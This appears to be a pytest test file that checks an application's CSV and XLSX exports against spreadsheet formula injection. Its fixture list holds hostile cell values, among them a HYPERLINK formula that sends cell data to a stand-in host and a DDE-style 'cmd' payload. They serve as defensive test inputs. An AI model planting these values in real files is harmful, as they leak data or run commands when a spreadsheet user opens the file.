"""Every export is safe to open in a spreadsheet: formulas neutralised in CSV and written as text in XLSX,
characters XML cannot hold removed, every CSV file with a BOM. Walks every export path sticoop has."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from sticoop.core.spreadsheet import BOM, FORMULA_STARTS, csv_cell, restore_cell
from sticoop.matchmaking.models import TechProfile
from sticoop.matchmaking.transfer import export_profiles, import_profiles
from sticoop.partners.models import Organization
from sticoop.transfer.service import export_csv_zip, export_xlsx

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ok")'
HOSTILE = [FORMULA, "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\tindented", "\rreturn"]
WORD_PASTE = "Pasted\x0bfrom\x0cWord"


@pytest.fixture
def hostile(db: Session) -> Session:
    for i, name in enumerate([*HOSTILE, WORD_PASTE]):
        db.add(Organization(name=name, acronym=f"H{i}", type="agency"))
        db.add(TechProfile(kind="technology_offer", title=name, summary=f"Hostile text number {i}", keywords=[name],
                              fields=[]))
    db.commit()
    return db


def _csv_cells(text: str) -> list[str]:
    assert text.startswith(BOM), "a CSV without a BOM"
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def _check_csv(text: str) -> None:
    cells = _csv_cells(text)
    assert any(FORMULA in c for c in cells), "the hostile values were not exported"
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert not bad, bad


def _check_xlsx(path: Path) -> None:
    workbook = load_workbook(path)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                values.append(cell.value)
    assert FORMULA in values and "Pastedfrom\x0cWord".replace("\x0c", "") in values


def _api_csv(client: TestClient, _db: Session, _tmp: Path) -> None:
    response = client.get("/api/v1/organizations/export.csv")
    assert response.status_code == 200
    _check_csv(response.content.decode("utf-8"))


def _dump_csv(_client: TestClient, db: Session, tmp: Path) -> None:
    export_csv_zip(db, tmp / "all.zip")
    with zipfile.ZipFile(tmp / "all.zip") as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            if name in ("organizations.csv", "tech_profiles.csv"):
                _check_csv(text)
            else:
                assert text.startswith(BOM), name


def _dump_xlsx(_client: TestClient, db: Session, tmp: Path) -> None:
    export_xlsx(db, tmp / "all.xlsx")
    _check_xlsx(tmp / "all.xlsx")


def _profiles_csv(_client: TestClient, db: Session, tmp: Path) -> None:
    export_profiles(db, tmp / "profiles.csv")
    _check_csv((tmp / "profiles.csv").read_text(encoding="utf-8"))


def _profiles_xlsx(_client: TestClient, db: Session, tmp: Path) -> None:
    export_profiles(db, tmp / "profiles.xlsx")
    _check_xlsx(tmp / "profiles.xlsx")


EXPORTS: dict[str, Callable[[TestClient, Session, Path], None]] = {
    "API list export (every entity's export.csv)": _api_csv, "sticoop export --format csv": _dump_csv,
    "sticoop export --format xlsx": _dump_xlsx, "sticoop profiles export .csv": _profiles_csv,
    "sticoop profiles export .xlsx": _profiles_xlsx,
}


@pytest.mark.parametrize("path", sorted(EXPORTS))
def test_every_export_is_safe_in_a_spreadsheet(client: TestClient, hostile: Session, tmp_path: Path,
                                               path: str) -> None:
    EXPORTS[path](client, hostile, tmp_path)


def test_every_csv_writer_goes_through_the_safe_one() -> None:
    """Walks the source: csv.writer/DictWriter and openpyxl appends live only in sticoop.core.spreadsheet."""
    src = Path(__file__).resolve().parents[2] / "src" / "sticoop"
    offenders = []
    for path in src.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name != "spreadsheet.py" and ("csv.writer(" in text or "csv.DictWriter(" in text
                                              or ("openpyxl" in text and "xlsx_row" not in text
                                                  and "load_workbook" not in text)):
            offenders.append(str(path.relative_to(src)))
    assert not offenders


def test_profiles_round_trip_through_csv_keeps_the_exact_text(hostile: Session, tmp_path: Path) -> None:
    export_profiles(hostile, tmp_path / "profiles.csv")
    hostile.query(TechProfile).delete()
    hostile.commit()
    import_profiles(hostile, tmp_path / "profiles.csv")
    hostile.commit()
    titles = {p.title for p in hostile.query(TechProfile)}
    assert set(HOSTILE) - {"\tindented", "\rreturn"} <= titles  # (the import strips surrounding blanks)


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "'=already quoted", 5, -5, None])
def test_neutralising_is_undone_on_import(value: object) -> None:
    assert restore_cell(csv_cell(value)) == value
